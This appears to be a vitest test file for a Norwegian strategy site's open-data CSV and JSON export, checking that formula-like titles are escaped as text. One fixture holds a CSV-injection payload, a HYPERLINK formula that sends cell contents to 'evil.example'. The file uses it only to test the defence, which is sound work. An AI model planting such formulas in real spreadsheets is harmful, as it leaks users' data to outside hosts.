/**
 * The open data files as a spreadsheet or a script reads them: formulas in the CSV are text, and the JSON's
 * bodies have been through the same sanitising as the pages.
 */
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { measuresCsv } from '../src/lib/open-data.ts';
import { loadSite, type SiteData } from '../src/lib/site-data.ts';
import { fixtureContent } from './helpers.ts';

const scratch = mkdtempSync(path.join(tmpdir(), 'strategi-open-data-'));
const content = path.join(scratch, 'content');

/** A working-draft measure with `title` written as the YAML scalar `yamlTitle`. */
function measure(id: string, yamlTitle: string): void {
  writeFileSync(
    path.join(content, 'tiltak', `${id}.md`),
    `---\nid: ${id}\ntitle: ${yamlTitle}\ngoals: [M-1]\nresponsible: [KD]\nsectors: [barnehage]\nstart: 2025\ndeadline: 2027\nstatus: planlagt\n---\nTekst.\n`,
  );
}

let site: SiteData;
beforeAll(async () => {
  cpSync(fixtureContent, content, { recursive: true });
  measure('T-20', `'=HYPERLINK("https://evil.example/?q="&A1,"klikk")'`);
  measure('T-21', "'+1'");
  measure('T-22', "'-1'");
  measure('T-23', "'@SUM(A1:A9)'");
  // A tab or line break in a title is refused by validation (schema/control-character); the writer's guard for them
  // is tested with the model's CSV writer. Here: spaces before a formula, and a semicolon inside a title.
  measure('T-24', "'  =1+1'");
  measure('T-25', "'a;=1+1'");
  measure('T-26', "'Vanlig tittel - med = og +'");
  site = await loadSite(content, 'preview', scratch);
});
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

describe('tiltak.csv', () => {
  test('a title a spreadsheet would run as a formula is written as text', () => {
    const working = site.editions.find((edition) => edition.id === 'utkast')!;
    const rows = measuresCsv(working).split('\r\n');
    const row = (id: string) => rows.find((line) => line.startsWith(`${id},`));
    const rest = ',planlagt,,versjon:utkast,2025,2027,barnehage,KD,,M-1,,,false,nb';
    expect(row('T-20')).toBe(`T-20,"'=HYPERLINK(""https://evil.example/?q=""&A1,""klikk"")"${rest}`);
    expect(row('T-21')).toBe(`T-21,'+1${rest}`);
    expect(row('T-22')).toBe(`T-22,'-1${rest}`);
    expect(row('T-23')).toBe(`T-23,'@SUM(A1:A9)${rest}`);
    expect(row('T-24')).toBe(`T-24,'  =1+1${rest}`);
    expect(row('T-25')).toBe(`T-25,"a;=1+1"${rest}`);
    expect(row('T-26')).toBe(`T-26,Vanlig tittel - med = og +${rest}`);
  });
});

describe('tiltak-excel.csv', () => {
  test('starts with a UTF-8 byte order mark, separates with semicolons and quotes a cell holding one', () => {
    const working = site.editions.find((edition) => edition.id === 'utkast')!;
    const excel = measuresCsv(working, 'excel');
    expect(excel.charCodeAt(0)).toBe(0xfeff);
    const [header, ...rows] = excel.slice(1).split('\r\n');
    expect(header).toBe('id;title;status;statusAsOf;statusSource;start;deadline;sectors;responsible;partners;goals;actionPlan;inputs;example;lang');
    expect(rows.find((line) => line.startsWith('T-26;'))).toBe(
      'T-26;Vanlig tittel - med = og +;planlagt;;versjon:utkast;2025;2027;barnehage;KD;;M-1;;;false;nb',
    );
    // The plain file has no mark, and both hold the same measures.
    expect(measuresCsv(working).charCodeAt(0)).not.toBe(0xfeff);
    expect(rows.filter(Boolean).length).toBe(measuresCsv(working).split('\r\n').filter(Boolean).length - 1);
  });
});

describe('strategi.schema.json', () => {
  test('describes every field of every published document, and no internal note', async () => {
    const { openDataJsonSchema } = await import('../src/lib/open-data-schema.ts');
    const { editionJson } = await import('../src/lib/open-data.ts');
    const schema = openDataJsonSchema('https://strategi.example.no/', 'Strategien') as {
      required: string[];
      properties: { documents: { properties: Record<string, { items: { properties: Record<string, unknown>; required: string[] } }> } };
    };
    for (const edition of site.editions) {
      const data = editionJson(edition, undefined) as Record<string, unknown> & { documents: Record<string, Record<string, unknown>[]> };
      for (const key of schema.required) expect(data, key).toHaveProperty(key);
      for (const [folder, docs] of Object.entries(data.documents)) {
        const item = schema.properties.documents.properties[folder]?.items;
        expect(item, folder).toBeDefined();
        for (const doc of docs) {
          for (const field of Object.keys(doc)) expect(Object.keys(item!.properties), `${folder}: ${field}`).toContain(field);
          for (const field of item!.required) expect(doc, `${folder}: ${field}`).toHaveProperty(field);
        }
      }
    }
    expect(JSON.stringify(schema)).not.toContain('internalNote');
  });
});
